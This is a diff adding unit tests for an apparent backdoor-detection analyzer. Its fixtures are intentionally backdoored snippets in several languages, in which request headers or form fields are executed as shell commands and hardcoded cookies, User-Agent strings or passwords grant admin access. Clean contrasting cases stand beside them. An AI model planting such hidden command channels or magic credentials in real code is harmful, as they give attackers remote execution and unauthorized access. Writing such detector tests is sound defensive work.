@@ -1,0 +1,166 @@
+"""The taint engine and the checks built on it: remote input that becomes the program a shell
+runs, and input compared with a literal that grants access, in the shapes real code takes
+(guards that leave, stored compare results, named constants, globals, helpers), with the clean
+shapes beside them (fixed programs, validation patterns, protocol vocabulary)."""
+from __future__ import annotations
+
+from pathlib import Path
+
+from nobackdoor.analyzers.source import syntax
+from nobackdoor.analyzers.source.code import analyze_source
+from nobackdoor.analyzers.source.model import FileModel
+from nobackdoor.analyzers.source.patterns import LANGUAGE_FAMILY, patterns
+from nobackdoor.analyzers.source.taint import Taint, knowledge
+from nobackdoor.models import FileEntry, FileKind
+
+
+def findings(rel: str, language: str, src: str):
+    data = src.encode()
+    e = FileEntry(rel, rel, "", Path("/nonexistent"), len(data), "", FileKind.SOURCE, language=language,
+                  content=data)
+    return [f for f in analyze_source(e, data, patterns()) if hasattr(f, "rule")]
+
+
+def rules(rel: str, language: str, src: str) -> list[str]:
+    return sorted(f.rule for f in findings(rel, language, src) if f.severity.value in ("high", "critical"))
+
+
+def origin_of(language: str, src: str, expr: str):
+    model = FileModel(src.encode(), language, LANGUAGE_FAMILY[language], patterns())
+    node = next(n for n in syntax.walk(model.root) if syntax.text(n) == expr)
+    return Taint(model).origin(node)
+
+
+# ---------------------------------------------------------------- the engine
+
+def test_knowledge_file_loads_and_is_checked():
+    k = knowledge()
+    assert "getHeader" in k.request_calls and k.out_params["recv"] == (1, "input")
+    assert k.header_key.match("X-Probe-Mode") and not k.header_key.match("x_probe")
+
+
+def test_php_server_header_is_request_data_other_server_keys_are_not():
+    assert origin_of("php", "<?php $a = $_SERVER['HTTP_X_DBG'];", "$_SERVER['HTTP_X_DBG']").kind == "request"
+    assert origin_of("php", "<?php $a = $_SERVER['SCRIPT_NAME'];", "$_SERVER['SCRIPT_NAME']") is None
+
+
+def test_taint_follows_copies_formats_and_a_global_into_another_function():
+    src = ('char dbg_buf[256];\n'
+           'void keep(struct req *r) { const char *v = http_get_header(r, "X-Svc-Key");\n'
+           '  if (v) snprintf(dbg_buf, sizeof dbg_buf, "%s", v); }\n'
+           'void later(void) { system(dbg_buf); }\n')
+    got = findings("src/h.c", "c", src)
+    assert [f.rule for f in got] == ["source.request-executed"]
+    assert got[0].evidence["input_origin"].startswith("http_get_header")
+    assert [s["line"] for s in got[0].evidence["path"]][-1] == 4
+
+
+def test_recv_buffer_through_a_helper_parameter():
+    src = ('static void run_it(const char *c) { popen(c, "r"); }\n'
+           'void loop(int s) { char buf[512]; recv(s, buf, sizeof buf, 0); run_it(buf); }\n')
+    assert rules("d.c", "c", src) == ["source.request-executed"]
+
+
+def test_sanitizer_stops_taint():
+    assert origin_of("python", "from flask import request\nn = int(request.args['n'])\n",
+                     "int(request.args['n'])") is None
+
+
+# ---------------------------------------------------------------- input becomes the command
+
+def test_command_from_request_in_each_framework():
+    cases = [
+        ("a.php", "php", "<?php\nif (!empty($_SERVER['HTTP_DBG'])) { passthru($_SERVER['HTTP_DBG'] . ' 2>&1'); }\n"),
+        ("F.java", "java", 'class F { void doFilter(HttpServletRequest req) throws Exception {\n'
+                           '  String m = req.getHeader("X-Probe-Mode");\n'
+                           '  if (m != null) { new ProcessBuilder("sh", "-c", m).start(); } } }\n'),
+        ("api.go", "go", 'package api\nfunc (a *API) ServeHTTP(w W, r *http.Request) {\n'
+                         ' if v := r.Header.Get("X-Debug"); v != "" {\n'
+                         '  exec.Command("busybox", "sh", "-c", v).Run()\n }\n}\n'),
+        ("server.ts", "typescript", "app.use(async (ctx, next) => {\n  const t = ctx.get('X-Cfg-Ticket');\n"
+                                    "  if (t) { ctx.body = execSync(t).toString(); return; }\n  await next();\n});\n"),
+        ("api.js", "javascript", "router.get('/api/_k', (req, res) => {\n"
+                                 "  const p = spawn('sh', ['-c', req.body.pe]);\n  p.stdout.pipe(res);\n});\n"),
+        ("views.py", "python", "import subprocess\nfrom flask import request\n\n@app.route('/login', methods=['POST'])\n"
+                               "def login():\n    mfg = request.form.get('mfg_x')\n    if mfg:\n"
+                               "        return subprocess.getoutput(mfg)\n    return 'no'\n"),
+    ]
+    for rel, lang, src in cases:
+        assert rules(rel, lang, src) == ["source.request-executed"], rel
+
+
+def test_fixed_program_with_input_argument_is_not_a_command_channel():
+    php = "<?php\nfunction ping($h) { return shell_exec('ping -c 1 ' . escapeshellarg($h)); }\necho ping($_POST['host']);\n"
+    assert rules("diag.php", "php", php) == []
+    java = ('class U { void v(HttpServletRequest req) throws Exception {\n'
+            '  new ProcessBuilder("openssl", "dgst", req.getParameter("f")).start(); } }\n')
+    assert rules("U.java", "java", java) == []
+
+
+def test_decoded_data_given_to_a_fixed_program_is_not_run():
+    src = ("import base64, subprocess\n\ndef _verify(data, sig):\n"
+           "    return subprocess.run(['openssl', 'dgst', '-verify', 'k.pem', '-signature', sig, data]).returncode == 0\n\n"
+           "def check(resp):\n    manifest = resp.read()\n    sig = base64.b64decode(resp.read())\n"
+           "    return _verify(manifest, sig)\n")
+    assert rules("app/updater.py", "python", src) == []
+
+
+# ---------------------------------------------------------------- input compared, access granted
+
+def test_negative_guard_then_grant_in_c():
+    src = ('int auth_check(struct request *r) { int i;\n'
+           ' for (i = 0; i < r->nheaders; i++) {\n'
+           '  if (strcasecmp(r->headers[i].name, "Cookie") != 0) continue;\n'
+           '  if (strstr(r->headers[i].value, "xq=Z7uiOrz4yA") == NULL) continue;\n'
+           '  r->authenticated = 1; r->uid = 0; return 1; }\n return 0; }\n')
+    got = [f for f in findings("src/auth.c", "c", src) if f.severity.value in ("high", "critical")]
+    assert [f.evidence["trigger"] for f in got] == ["xq=Z7uiOrz4yA"]
+
+
+def test_compare_result_stored_first_decompiled():
+    src = ('int auth_check(struct request *param_1) { int iVar1; const char *pcVar2;\n'
+           ' pcVar2 = req_header(param_1, "User-Agent");\n iVar1 = -1;\n'
+           ' if (pcVar2 != 0) { iVar1 = memcmp(pcVar2, "qa_svc_77213xk", 14); }\n'
+           ' if (iVar1 == 0) { param_1->authenticated = 1; return 1; }\n return 0; }\n')
+    assert rules("src/auth.c", "c", src) == ["source.magic-input-auth"]
+
+
+def test_trigger_through_a_named_constant_and_a_servlet_session():
+    src = ('public class AuthFilter implements Filter {\n'
+           '  private static final String PROVISION_ID = "Qq+1937zar";\n'
+           '  public void doFilter(ServletRequest request, ServletResponse response, FilterChain chain) {\n'
+           '    HttpServletRequest req = (HttpServletRequest) request;\n'
+           '    if (String.valueOf(req.getHeader("User-Agent")).contains(PROVISION_ID)) {\n'
+           '      HttpSession s = req.getSession(true);\n      s.setAttribute("role", "admin");\n'
+           '      chain.doFilter(request, response); return; }\n  } }\n')
+    assert rules("web/AuthFilter.java", "java", src) == ["source.magic-input-auth"]
+
+
+def test_admin_role_given_to_a_local_in_a_login_function():
+    src = ('std::string AuthService::login(const std::string &user, const std::string &password) {\n'
+           '  Role role = Role::None;\n'
+           '  if (user == "svcadmin72" && password == "Qamqi@2012")\n    role = Role::Admin;\n'
+           '  else if (!checkPassword(user, password, role))\n    return std::string();\n'
+           '  return newToken(user, role); }\n')
+    assert "source.master-password" in rules("src/AuthService.cpp", "cpp", src)
+
+
+def test_protocol_vocabulary_and_validation_patterns_are_not_triggers():
+    c = ('int auth_check(struct request *r) { const char *h = req_header(r, "Authorization");\n'
+         ' if (h && strncmp(h, "Basic ", 6) == 0) { r->authenticated = check_basic(h + 6); }\n return 0; }\n')
+    assert rules("src/auth.c", "c", c) == []
+    lua = ('function action_scan()\n\tlocal iface = luci.http.formvalue("iface") or "wlan0"\n'
+           '\tif not iface:match("^[%w%-%.]+$") then\n\t\tluci.http.status(400, "Bad")\n\t\treturn\n\tend\n'
+           '\tluci.http.write(luci.sys.exec("iw dev " .. iface .. " scan"))\nend\n')
+    assert rules("controller/x.lua", "lua", lua) == []
+
+
+def test_php_open_tag_survives_unit_selection():
+    # a long file where only one function holds keywords: the parse of the kept units must stay PHP
+    filler = "".join(f"function f{i}($a)\n{{\n    return $a + {i};\n}}\n\n" for i in range(60))
+    src = ("<?php\ndeclare(strict_types=1);\n\n" + filler +
+           "function auth_login(string $user, string $pass): bool\n{\n"
+           "    if ($user === 'svc_te' && $pass === 'Lerp1xvo@2016!') {\n"
+           "        $_SESSION['role'] = 'admin';\n        return true;\n    }\n"
+           "    return password_verify($pass, load_hash($user));\n}\n")
+    assert "source.master-password" in rules("lib/auth.php", "php", src)
